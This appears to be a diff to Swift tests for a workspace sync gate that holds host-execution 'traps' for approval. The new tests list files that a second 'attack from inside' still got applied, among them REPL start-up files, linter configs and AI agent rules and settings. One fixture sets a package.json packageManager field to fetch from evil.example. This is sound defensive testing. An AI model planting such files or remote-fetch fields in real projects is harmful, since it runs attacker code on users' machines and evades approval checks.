@@ -5,13 +5,14 @@ import Foundation
 import Testing
 
 @testable import CordonGate
+import CordonScan
 
 /// Host-execution traps: every catalogue entry is held for approval wherever it sits in the
 /// workspace, and the project's own code is not.
 @Suite struct HostTrapTests {
     func evaluate(_ build: (TempTree) -> Void) throws -> SyncGate.Report {
-        let lower = TempTree()
-        let upper = TempTree()
+        let lower = try TempTree()
+        let upper = try TempTree()
         build(upper)
         return try SyncGate(policy: GatePolicy()).evaluate(try ChangeSet.read(upper: upper.root, lower: lower.root), created: nil)
     }
@@ -90,8 +91,8 @@ import Testing
 
     @Test func aToolSectionOfASharedConfigIsATrapTheRestIsNot() async throws {
         try await onOwnThread {
-            let lower = TempTree()
-            let upper = TempTree()
+            let lower = try TempTree()
+            let upper = try TempTree()
             let base = "[project]\nname = \"app\"\ndependencies = []\n\n[tool.pytest.ini_options]\ntestpaths = [\"tests\"]\n"
             for dir in ["", "svc/api/"] {
                 lower.write(dir + "pyproject.toml", base)
@@ -144,14 +145,50 @@ import Testing
     ])
     func packageJSONTheGateCannotReadExactlyNeedsApproval(text: String) async throws {
         try await onOwnThread {
-            let lower = TempTree()
-            let upper = TempTree()
+            let lower = try TempTree()
+            let upper = try TempTree()
             lower.write("web/package.json", #"{"scripts":{"postinstall":"node ok.js"}}"#)
             upper.write("web/package.json", text)
             upper.write("api/Package.json", text)
             let report = try SyncGate(policy: GatePolicy()).evaluate(try ChangeSet.read(upper: upper.root, lower: lower.root), created: nil)
             #expect(traps(report, "web/package.json") == ["trap-npm-lifecycle"], "\(text)")
             #expect(traps(report, "api/Package.json") == ["trap-npm-lifecycle"], "\(text)")
+        }
+    }
+
+    /// What the second attack from inside still got applied without approval: REPL start-up
+    /// files, linter and language-server configs, a version selector, agent settings.
+    static let appliedOnTheSecondRun = [
+        ".ghci", ".iex.exs", ".erlang", ".Rprofile", ".octaverc", ".solargraph.yml", ".php-cs-fixer.php", ".php-cs-fixer.dist.php",
+        "phpstan.neon", ".swift-version", ".qwen/settings.json", ".kilocode/mcp.json", ".openhands/setup.sh", "AGENTS.override.md", ".rules",
+        ".github/agents/x.md", ".trae/rules/a.md", ".augment/rules/a.md", ".huskyrc",
+    ]
+
+    @Test func theSecondRunsExamplesAreHeldAtEveryDepth() async throws {
+        try await onOwnThread {
+            let paths = Self.appliedOnTheSecondRun.flatMap { [$0, "sub/" + $0] }
+            let report = try evaluate { upper in for path in paths { upper.write(path, "x = 1\n") } }
+            let plan = SyncPlan(report: report, approve: false, force: false)
+            for path in paths {
+                #expect(!traps(report, path).isEmpty, "\(path) is not a trap")
+                #expect(plan.held.map(\.path).contains(path), "\(path) would apply without approval")
+            }
+        }
+    }
+
+    /// corepack fetches and runs the package manager `packageManager` names (a version or a URL).
+    @Test func aChangedPackageManagerFieldNeedsApproval() async throws {
+        try await onOwnThread {
+            let lower = try TempTree()
+            let upper = try TempTree()
+            lower.write("web/package.json", #"{"name":"w","packageManager":"yarn@4.1.0"}"#)
+            upper.write("web/package.json", #"{"name":"w","packageManager":"yarn@https://evil.example/yarn.tgz"}"#)
+            lower.write("same/package.json", #"{"name":"s","packageManager":"pnpm@9.0.0"}"#)
+            upper.write("same/package.json", #"{"name":"s2","packageManager":"pnpm@9.0.0"}"#)
+            let report = try SyncGate(policy: GatePolicy()).evaluate(try ChangeSet.read(upper: upper.root, lower: lower.root), created: nil)
+            #expect(traps(report, "web/package.json") == ["trap-npm-lifecycle"])
+            #expect(report.findings.contains { $0.path == "web/package.json" && $0.message.contains("evil.example") })
+            #expect(traps(report, "same/package.json").isEmpty, "an unchanged packageManager is not a trap")
         }
     }
 
